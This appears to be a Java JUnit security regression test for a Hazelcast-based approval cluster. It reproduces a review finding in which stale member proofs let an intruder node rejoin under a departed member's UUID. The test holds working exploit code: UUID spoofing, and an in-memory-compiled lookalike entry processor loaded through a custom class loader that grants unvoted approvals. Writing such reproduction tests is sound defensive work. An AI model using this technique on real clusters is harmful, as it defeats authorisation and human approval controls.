package dev.countersign.cluster;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.hazelcast.config.Config;
import com.hazelcast.core.Hazelcast;
import com.hazelcast.core.HazelcastInstance;
import com.hazelcast.instance.impl.DefaultNodeContext;
import com.hazelcast.instance.impl.DefaultNodeExtension;
import com.hazelcast.instance.impl.HazelcastInstanceFactory;
import com.hazelcast.instance.impl.Node;
import com.hazelcast.instance.impl.NodeExtension;
import dev.countersign.cluster.approval.ApprovalStatus;
import dev.countersign.cluster.approval.HazelcastApprovalStore;
import dev.countersign.cluster.approval.PendingApproval;
import dev.countersign.cluster.approval.RedeemResult;
import dev.countersign.cluster.approval.Requester;
import dev.countersign.cluster.approval.Requirement;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.net.URI;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.TimeUnit;
import javax.tools.FileObject;
import javax.tools.ForwardingJavaFileManager;
import javax.tools.JavaCompiler;
import javax.tools.JavaFileManager;
import javax.tools.JavaFileObject;
import javax.tools.SimpleJavaFileObject;
import javax.tools.ToolProvider;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/**
 * Security review 2, cluster finding (reproduction; FAILS while the hole is open).
 *
 * <p>A member's proof ({@link MemberProofs}) is an HMAC of its UUID and address, kept in a replicated
 * map that nothing ever cleans: when a member leaves (every restart, every rescheduled pod), its proof
 * stays. An intruder on the cluster network that knows the join name (it travels in clear) joins with
 * the departed member's UUID and address (Hazelcast lets a member choose both) and is then "proven"
 * and "expected": the honest nodes' standing no longer refuses approvals. It owns partitions like
 * any member, and the node that submits a redemption trusts whatever the holder answers
 * ({@code HazelcastApprovalStore.redeem} and {@code ApprovalService.redeem} use
 * {@link RedeemResult#granted()} without checking anything the holder signed), so the intruder
 * grants a redemption of a PENDING approval that nobody voted on.
 *
 * <p>The intruder here holds no secret: its user context is empty (as in ClusterTrustTest), and it
 * answers the redemption with its own class of the same name, loaded through its configuration's
 * class loader (what a process of its own would simply run).
 *
 * <p>Expected: a redemption of a pending approval is never granted; the intruder is not taken for a
 * proven member. Actual (at the review's commit): granted, with no vote.
 */
class Review2ReplayedProofTest {
    private final List<HazelcastInstance> started = new ArrayList<>();

    @AfterEach
    void stopAll() {
        for (HazelcastInstance h : started) {
            if (h.getLifecycleService().isRunning()) {
                h.getLifecycleService().terminate();
            }
        }
    }

    private HazelcastInstance start(TestMembers members, int i) {
        Config config = members.settings(i, 1).applyTo(new Config(), members.secret, Clock.systemUTC());
        config.setInstanceName(members.cluster + "-" + i + "-" + UUID.randomUUID());
        HazelcastInstance h = Hazelcast.newHazelcastInstance(config);
        started.add(h);
        return h;
    }

    static <T> T await(CompletionStage<T> stage) throws Exception {
        return stage.toCompletableFuture().get(30, TimeUnit.SECONDS);
    }

    static PendingApproval proposed() {
        return PendingApproval.pending("apr_" + UUID.randomUUID().toString().replace("-", "").substring(0, 26), "dec_1", "node-a",
                Instant.EPOCH, new Requester("agent:bot", "alice@example.com", "gateway", null),
                new Requirement(List.of("security"), Map.of("security", 1), Duration.ofHours(1)), "ctx-1", "{}", "{}", "rev-1", List.of());
    }

    @Test
    void aDepartedMembersProofLetsAnIntruderGrantAPendingApproval() throws Exception {
        grantedThroughAReplayedProof(false);
    }

    /**
     * The same from another address than the departed member's: the proof binds the address, but a
     * node that verified the proof once for that UUID ({@code MemberProofs.verified}) accepts the same
     * string again without checking the address it now comes from.
     */
    @Test
    void theProofIsNotCheckedAgainstTheAddressItNowComesFrom() throws Exception {
        grantedThroughAReplayedProof(true);
    }

    private void grantedThroughAReplayedProof(boolean otherAddress) throws Exception {
        TestMembers members = new TestMembers(2, Clock.systemUTC());
        HazelcastInstance a = start(members, 0);
        HazelcastInstance b = start(members, 1);
        TestMembers.awaitSafe(List.of(a, b), 2);
        UUID departedUuid = b.getCluster().getLocalMember().getUuid();
        assertNotNull(a.getReplicatedMap(MemberProofs.MAP).get(departedUuid), "b published its proof");

        // b leaves (a restart, a rescheduled pod); its proof stays in the replicated map.
        b.getLifecycleService().terminate();
        TestMembers.awaitSafe(List.of(a), 1);
        HazelcastApprovalStore store = new HazelcastApprovalStore(a);
        List<PendingApproval> pending = new ArrayList<>();
        for (int i = 0; i < 40; i++) {
            pending.add(await(store.create(proposed(), "ask-" + UUID.randomUUID())).approval());
        }

        // The intruder: the join name (sniffed), b's port and b's old UUID, no secret at all.
        String departedAddress = members.addresses.get(1);
        HazelcastInstance evil = intruder(members, departedUuid, otherAddress ? members.addresses.get(4) : departedAddress);
        assertEquals(otherAddress, !("127.0.0.1:" + evil.getCluster().getLocalMember().getAddress().getPort()).equals(departedAddress));
        ClusterTrustTest.awaitJoined(List.of(a, evil), 2);
        assertEquals(departedUuid, evil.getCluster().getLocalMember().getUuid(), "Hazelcast let it take the departed UUID");
        assertNull(evil.getUserContext().get(MemberContext.KEY), "the intruder holds no Countersign context (no secret)");

        // a's standing, as the node taking a request checks it: nothing refuses approvals.
        StandingException problem = MemberContext.of(a).standing().problem(a, false);
        assertNull(problem, () -> "the intruder was noticed: " + problem.getMessage());

        PendingApproval target = pending.stream()
                .filter(p -> evil.getPartitionService().getPartition(p.id()).getOwner().localMember())
                .findFirst().orElseThrow();
        assertEquals(ApprovalStatus.PENDING, target.status());
        assertTrue(target.votes().isEmpty());

        RedeemResult result = await(store.redeem(target.id(), "ctx-1", "dec_redeem", null, "gateway"));
        assertFalse(result.granted(), "a PENDING approval nobody voted on was granted by the intruder holding it: " + result.reason());
    }

    /** A plain Hazelcast member with the join name, a listed address, and b's UUID; it answers redemptions with its own code. */
    private HazelcastInstance intruder(TestMembers members, UUID uuid, String address) throws Exception {
        int port = Integer.parseInt(address.substring(address.indexOf(':') + 1));
        Config plain = new ClusterSettings(members.cluster, "127.0.0.1", port, members.addresses, null, 1)
                .applyTo(new Config(), members.secret, Clock.systemUTC());
        plain.getUserContext().clear();   // no MemberContext: no seal, no secret
        plain.setClassLoader(new IntruderClasses(getClass().getClassLoader(), compileIntruderProcessors()));
        plain.setInstanceName(members.cluster + "-intruder-" + UUID.randomUUID());
        HazelcastInstance h = HazelcastInstanceFactory.newHazelcastInstance(plain, plain.getInstanceName(), new DefaultNodeContext() {
            @Override
            public NodeExtension createNodeExtension(Node node) {
                return new DefaultNodeExtension(node) {
                    @Override
                    public UUID createMemberUuid() {
                        return uuid;
                    }
                };
            }
        });
        started.add(h);
        return h;
    }

    /**
     * The intruder's own {@code ApprovalProcessors$Redeem}: the same name, serialVersionUID and fields,
     * so that what an honest node sends deserialises into it; it answers "granted".
     */
    private static final String INTRUDER_SOURCE = """
            package dev.countersign.cluster.approval;

            import com.hazelcast.map.EntryProcessor;
            import java.util.Map;

            final class ApprovalProcessors {
                abstract static class Transition<R> implements EntryProcessor<String, PendingApproval, R> {
                    private static final long serialVersionUID = 1L;
                    private String authorization;

                    @Override
                    public EntryProcessor<String, PendingApproval, R> getBackupProcessor() {
                        return null;
                    }
                }

                static final class Redeem extends Transition<RedeemResult> {
                    private static final long serialVersionUID = 1L;
                    private final String contextHash = null;
                    private final String decisionId = null;
                    private final Requirement required = null;
                    private final String client = null;

                    @Override
                    public RedeemResult process(Map.Entry<String, PendingApproval> entry) {
                        return new RedeemResult(true, "granted by the intruder", entry.getValue(), null);
                    }
                }
            }
            """;

    private static Map<String, byte[]> compileIntruderProcessors() {
        JavaCompiler javac = ToolProvider.getSystemJavaCompiler();
        Map<String, ByteArrayOutputStream> out = new HashMap<>();
        JavaFileManager files = new ForwardingJavaFileManager<>(javac.getStandardFileManager(null, null, null)) {
            @Override
            public JavaFileObject getJavaFileForOutput(Location location, String className, JavaFileObject.Kind kind, FileObject sibling) {
                return new SimpleJavaFileObject(URI.create("mem:///" + className.replace('.', '/') + kind.extension), kind) {
                    @Override
                    public OutputStream openOutputStream() {
                        return out.computeIfAbsent(className, n -> new ByteArrayOutputStream());
                    }
                };
            }
        };
        JavaFileObject source = new SimpleJavaFileObject(URI.create("mem:///dev/countersign/cluster/approval/ApprovalProcessors.java"),
                JavaFileObject.Kind.SOURCE) {
            @Override
            public CharSequence getCharContent(boolean ignoreEncodingErrors) {
                return INTRUDER_SOURCE;
            }
        };
        List<String> options = List.of("-classpath", System.getProperty("java.class.path"), "-proc:none");
        if (!javac.getTask(null, files, null, options, null, List.of(source)).call()) {
            throw new IllegalStateException("the intruder's classes did not compile");
        }
        Map<String, byte[]> classes = new HashMap<>();
        out.forEach((name, bytes) -> classes.put(name, bytes.toByteArray()));
        return classes;
    }

    /** Child-first for the intruder's own classes, the test's class path for everything else. */
    private static final class IntruderClasses extends ClassLoader {
        private final Map<String, byte[]> own;

        IntruderClasses(ClassLoader parent, Map<String, byte[]> own) {
            super(parent);
            this.own = own;
        }

        @Override
        protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
            synchronized (getClassLoadingLock(name)) {
                byte[] bytes = own.get(name);
                if (bytes == null) {
                    return super.loadClass(name, resolve);
                }
                Class<?> c = findLoadedClass(name);
                return c != null ? c : defineClass(name, bytes, 0, bytes.length);
            }
        }
    }
}
